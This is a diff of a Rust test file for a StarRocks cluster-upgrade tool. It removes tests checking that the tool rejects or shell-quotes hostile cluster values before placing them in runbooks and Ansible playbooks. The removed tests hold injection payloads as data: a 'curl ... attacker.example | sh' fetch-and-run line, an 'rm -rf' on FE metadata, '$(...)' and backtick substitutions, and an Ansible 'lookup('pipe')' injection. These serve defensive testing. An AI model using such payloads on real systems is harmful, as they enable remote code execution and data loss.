@@ -4,16 +4,14 @@
 use std::path::Path;
 use std::process::Command;
 
-use super::util::{
-    content_digest, read, skip, stdout, tool_bin, BeRow, HostileFe, HostileSpec, SimCluster,
-};
+use super::util::{content_digest, read, skip, stdout, SimCluster};
 
-fn stderr(o: &std::process::Output) -> String {
+pub(super) fn stderr(o: &std::process::Output) -> String {
     String::from_utf8_lossy(&o.stderr).into_owned()
 }
 
 /// A report as `sr-rehearse fe`/`be` writes it, reduced to what the plan reads.
-fn fake_report(p: &Path, command: &str, verdict: &str, version: &str) {
+pub(super) fn fake_report(p: &Path, command: &str, verdict: &str, version: &str) {
     let v = serde_json::json!({"schema": 1, "command": command, "verdict": verdict,
         "summary": "written by the test", "target": {"detected_version": version}});
     std::fs::write(p, v.to_string()).unwrap();
@@ -138,7 +136,7 @@ fn plan_refuses_without_rehearsals_unhealthy_or_skipping_a_minor_version() {
     );
 }
 
-fn ansible_playbook(test: &str) -> Option<&'static str> {
+pub(super) fn ansible_playbook(test: &str) -> Option<&'static str> {
     let found = Command::new("ansible-playbook")
         .arg("--version")
         .output()
@@ -332,198 +330,4 @@ fn playbook_puts_a_failed_fe_back_on_its_old_build_and_stops() {
         content_digest(&fe2.join("lib"), &[]),
     );
     assert_eq!(before, after, "fe2's bin/ and lib/ are not its old build");
-}
-
-/// Packages (bin/ and lib/ only) and passing reports for 3.3.5 in `dir`, for a plan against a
-/// hostile FE: the arguments `upgrade-plan` needs besides the cluster.
-fn plan_inputs(dir: &Path, new_be: &Path) -> Vec<String> {
-    let new_fe = dir.join("pkg/fe");
-    for p in [&new_fe, new_be] {
-        std::fs::create_dir_all(p.join("bin")).unwrap();
-        std::fs::create_dir_all(p.join("lib")).unwrap();
-    }
-    let (fe_r, be_r) = (dir.join("fe.json"), dir.join("be.json"));
-    fake_report(&fe_r, "fe", "pass", "3.3.5-553732d");
-    fake_report(&be_r, "be", "pass", "3.3.5-553732d");
-    [
-        "--new-fe".as_ref(),
-        new_fe.as_os_str(),
-        "--new-be".as_ref(),
-        new_be.as_os_str(),
-        "--rehearsal-report".as_ref(),
-        fe_r.as_os_str(),
-        "--canary-report".as_ref(),
-        be_r.as_os_str(),
-    ]
-    .iter()
-    .map(|s| s.to_str().unwrap().to_string())
-    .collect()
-}
-
-/// `upgrade-plan` of the hostile FE's cluster, run as `tool` (the binary the runbook names).
-fn plan_hostile(tool: &Path, fe: &HostileFe, dir: &Path, extra: &[&str]) -> std::process::Output {
-    Command::new(tool)
-        .arg("upgrade-plan")
-        .args(fe.args())
-        .args(plan_inputs(dir, &dir.join("pkg/be")))
-        .args(extra)
-        .output()
-        .unwrap()
-}
-
-#[test]
-fn plan_refuses_cluster_values_that_would_go_into_commands() {
-    let dir = tempfile::tempdir().unwrap();
-    let mark = dir.path().join("PWNED");
-    let tool = Path::new(tool_bin());
-    let cases = [
-        HostileSpec {
-            version: "3.2.11-98f7576\n   curl -s http://attacker.example/x | sh".into(),
-            ..HostileSpec::default()
-        },
-        HostileSpec {
-            more_fes: vec![(
-                "127.0.0.1".into(),
-                "FOLLOWER\n   rm -rf /opt/starrocks/fe/meta #".into(),
-            )],
-            ..HostileSpec::default()
-        },
-        HostileSpec {
-            backends: vec![BeRow::new(
-                &format!("127.0.0.1$(id>{})", mark.display()),
-                "9050",
-            )],
-            ..HostileSpec::default()
-        },
-        HostileSpec {
-            leader_ip: format!(
-                "127.0.0.1{{{{ lookup('pipe', 'id > {}') }}}}",
-                mark.display()
-            ),
-            ..HostileSpec::default()
-        },
-    ];
-    for spec in cases {
-        let fe = HostileFe::start(spec);
-        let out = plan_hostile(tool, &fe, dir.path(), &["--force"]);
-        let e = stderr(&out);
-        assert_eq!(out.status.code(), Some(2), "{}{e}", stdout(&out));
-        assert!(e.contains("cannot go into a runbook or a playbook"), "{e}");
-        assert!(!e.chars().any(|c| c.is_control() && c != '\n'), "{e:?}");
-        assert_eq!(e.lines().count(), 1, "{e}");
-        assert!(stdout(&out).is_empty());
-    }
-    assert!(!mark.exists());
-}
-
-#[test]
-fn plan_node_home_must_name_a_node_once_with_an_absolute_dir() {
-    let fe = HostileFe::start(HostileSpec::default());
-    let dir = tempfile::tempdir().unwrap();
-    let tool = Path::new(tool_bin());
-    let home = |v: &str| ["--node-home".to_string(), v.to_string()];
-    for (args, why) in [
-        (
-            home("be@127.0.0.1:9060=/data/be").to_vec(),
-            "no node be 127.0.0.1:9060",
-        ),
-        (
-            home("be@localhost:9050=/data/be").to_vec(),
-            "no node be localhost:9050",
-        ),
-        (
-            home(&format!("fe@127.0.0.1:{}=/data/fe", fe.http_port)).to_vec(),
-            "no node fe",
-        ),
-        (
-            [
-                home("be@127.0.0.1:9050=/data/a"),
-                home("be@127.0.0.1:9050=/data/b"),
-            ]
-            .concat(),
-            "more than once",
-        ),
-        (home("be@127.0.0.1:9050=").to_vec(), "absolute"),
-        (home("be@127.0.0.1:9050=data/be").to_vec(), "absolute"),
-    ] {
-        let args: Vec<&str> = args.iter().map(String::as_str).collect();
-        let out = plan_hostile(tool, &fe, dir.path(), &args);
-        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stdout(&out));
-        assert!(stderr(&out).contains(why), "{args:?}: {}", stderr(&out));
-    }
-    let out = plan_hostile(
-        tool,
-        &fe,
-        dir.path(),
-        &["--node-home", "be@127.0.0.1:9050=/data/be"],
-    );
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(
-        stdout(&out).contains("   cd /data/be\n"),
-        "{}",
-        stdout(&out)
-    );
-}
-
-/// What bash makes of `cmd`'s words, without running it: `set --` and print them.
-fn words(cmd: &str, cwd: &Path) -> Vec<String> {
-    let out = Command::new("bash")
-        .arg("-c")
-        .arg(format!("set -- {cmd}\nprintf '%s\\0' \"$@\""))
-        .current_dir(cwd)
-        .output()
-        .unwrap();
-    assert!(out.status.success(), "{cmd}: {}", stderr(&out));
-    let s = String::from_utf8(out.stdout).unwrap();
-    s.split_terminator('\0').map(String::from).collect()
-}
-
-#[test]
-fn plan_runbook_quotes_every_value_it_places_in_a_command() {
-    let fe = HostileFe::start(HostileSpec::default());
-    let dir = tempfile::tempdir().unwrap();
-    let mark = dir.path().join("PWNED");
-    let bin_dir = dir
-        .path()
-        .join(format!("odd bin $(touch {})", mark.display()));
-    std::fs::create_dir_all(&bin_dir).unwrap();
-    let tool = bin_dir.join("sr-rehearse");
-    std::fs::copy(tool_bin(), &tool).unwrap();
-    let home = format!("/data/it's `touch {}`/be", mark.display());
-    let new_be = dir.path().join("new be;$(touch PWNED)");
-    let out = Command::new(&tool)
-        .arg("upgrade-plan")
-        .args(fe.args())
-        .args(plan_inputs(dir.path(), &new_be))
-        .arg("--node-home")
-        .arg(format!("be@127.0.0.1:9050={home}"))
-        .output()
-        .unwrap();
-    let s = stdout(&out);
-    assert_eq!(out.status.code(), Some(0), "{s}{}", stderr(&out));
-    let line = |start: &str| {
-        s.lines()
-            .map(str::trim_start)
-            .find(|l| l.starts_with(start))
-            .unwrap_or_else(|| panic!("no {start:?} line: {s}"))
-    };
-    assert_eq!(words(line("cd "), dir.path()), ["cd", &home]);
-    let cp = words(line("cp -a "), dir.path());
-    assert_eq!(cp[2], format!("{}/bin", new_be.display()));
-    let gate_line = s.lines().find(|l| l.contains(" check --fe ")).unwrap();
-    let gate = words(gate_line, dir.path());
-    assert_eq!(gate[0], tool.to_str().unwrap(), "{s}");
-    assert_eq!(
-        gate[1..4],
-        ["check", "--fe", &format!("127.0.0.1:{}", fe.http_port)]
-    );
-    let in_place = line("(or all of the above");
-    let cmd = in_place.split_once(": ").unwrap().1.trim_end_matches(')');
-    let w = words(cmd, dir.path());
-    assert_eq!(
-        (w[0].as_str(), w[3].as_str()),
-        (tool.to_str().unwrap(), home.as_str())
-    );
-    assert_eq!(w[5], new_be.to_str().unwrap());
-    assert!(!mark.exists() && !dir.path().join("PWNED").exists());
 }
